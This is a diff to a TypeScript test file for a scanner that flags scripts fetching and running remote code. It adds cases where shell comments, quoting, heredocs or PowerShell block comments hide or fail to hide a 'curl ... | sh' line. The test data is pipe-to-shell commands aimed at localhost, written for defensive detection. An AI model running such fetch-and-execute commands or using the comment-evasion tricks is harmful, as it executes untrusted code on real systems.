@@ -1,7 +1,10 @@
 import { describe, expect, it } from 'vitest';
+import { hasHashComments } from './comments.ts';
 import { INSTALL_ROWS, installsIn } from './installs.ts';
 import { SCRIPT_ROWS } from './script-rows.ts';
 import { judgeScript } from './scripts.ts';
+
+const SHELL = { buildsImage: false, hashComments: true };
 
 describe('rows of scripts and of settings that install', () => {
   const rows = [...SCRIPT_ROWS, ...INSTALL_ROWS];
@@ -20,7 +23,7 @@ describe('rows of scripts and of settings that install', () => {
   );
 
   it.each(SCRIPT_ROWS.flatMap(({ quiet }) => quiet))('no row minds %s', (line) => {
-    expect(judgeScript(line)).toBeNull();
+    expect(judgeScript(line, SHELL)).toBeNull();
   });
 
   it.each(INSTALL_ROWS.flatMap(({ quiet }) => quiet))('no setting minds %s', (line) => {
@@ -56,10 +59,31 @@ describe('rows of scripts and of settings that install', () => {
     ['as a file of an interpreter', 'python3 <(curl http://127.0.0.1:9/x)', 'fetched-code'],
     ['as a list', 'RUN ["sh", "-c", "curl http://127.0.0.1:9/x | sh"]', 'fetched-code'],
   ])('a line %s is one line', (_, text, rule) => {
-    expect(judgeScript(text)?.rule.id).toBe(`remote-code/${rule}`);
+    expect(judgeScript(text, SHELL)?.rule.id).toBe(`remote-code/${rule}`);
   });
 
-  it('a comment runs nothing', () => {
-    expect(judgeScript('# curl -s http://127.0.0.1:9/x | sh\necho done')).toBeNull();
+  it.each([
+    ['alone', '# curl -s http://127.0.0.1:9/x | sh\necho done'],
+    ['behind a quoted text', "echo \"it is\" 'done' # it's so\n# curl -s http://127.0.0.1:9/x | sh"],
+    ['behind what is handed in', 'cat <<EOF\nit is\nEOF\n# curl -s http://127.0.0.1:9/x | sh'],
+  ])('a comment runs nothing, %s', (_, text) => {
+    expect(judgeScript(text, SHELL)).toBeNull();
+  });
+
+  it.each([
+    ['in an open text', "echo '\n# '; curl -s http://127.0.0.1:9/x | sh"],
+    ['in a text that a blank hides', "echo \\ #'\n# '; curl -s http://127.0.0.1:9/x | sh"],
+    ['behind an escaped quote', 'echo "a`"\n# "; curl -s http://127.0.0.1:9/x | sh'],
+    ['in three quotes', '"""\nsay "so\n# """\n# """; curl -s http://127.0.0.1:9/x | sh'],
+    ['behind the comment of a block', '<#\n#> curl -s http://127.0.0.1:9/x | sh'],
+    ['in a shift that looks like a text', "x=$((1<<a))\necho '\na\n# '; curl -s http://127.0.0.1:9/x | sh"],
+  ])('what looks like a comment runs %s', (_, text) => {
+    expect(judgeScript(text, SHELL)?.rule.id).toBe('remote-code/fetched-code');
+  });
+
+  it('lines with # run where it begins no comment', () => {
+    expect(hasHashComments('a.bat', '')).toBe(false);
+    expect(hasHashComments('install', '#!/usr/bin/env bash\n')).toBe(true);
+    expect(judgeScript('#&curl -s http://127.0.0.1:9/x | sh')?.rule.id).toBe('remote-code/fetched-code');
   });
 });
